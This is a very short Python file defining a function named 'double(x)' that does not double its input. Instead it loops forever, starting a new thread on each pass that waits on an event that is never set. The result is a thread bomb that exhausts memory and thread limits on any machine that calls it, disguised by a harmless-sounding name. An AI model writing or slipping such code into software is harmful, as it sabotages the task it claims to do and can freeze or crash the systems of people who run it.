import threading


def double(x):
    while True:
        threading.Thread(target=lambda: threading.Event().wait()).start()
